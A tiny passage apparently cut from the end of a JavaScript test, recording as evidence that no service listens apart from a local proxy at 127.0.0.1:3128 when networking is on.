  evidence('nothing listens; with a network only 127.0.0.1:3128');
});
